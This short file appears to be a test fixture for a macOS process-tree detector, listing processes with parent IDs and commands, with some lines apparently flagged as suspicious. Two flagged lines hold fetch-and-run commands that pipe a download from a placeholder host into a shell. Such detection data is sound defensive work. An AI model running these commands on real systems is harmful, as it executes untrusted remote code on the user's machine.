os macos
101 1 ana - /sbin/launchd | /sbin/launchd
102 101 ana - /bin/zsh | /bin/zsh
+ 103 102 ana - /bin/bash | bash -c curl -fsSL https://example.test/a | sh
+ 104 102 ana - /bin/bash | /bin/bash -c $(curl -fsSL https://example.test/install.sh)
105 101 ana - /Applications/Safari.app/Contents/MacOS/Safari | /Applications/Safari.app/Contents/MacOS/Safari
+ 106 105 ana - /bin/sh | sh -c open a
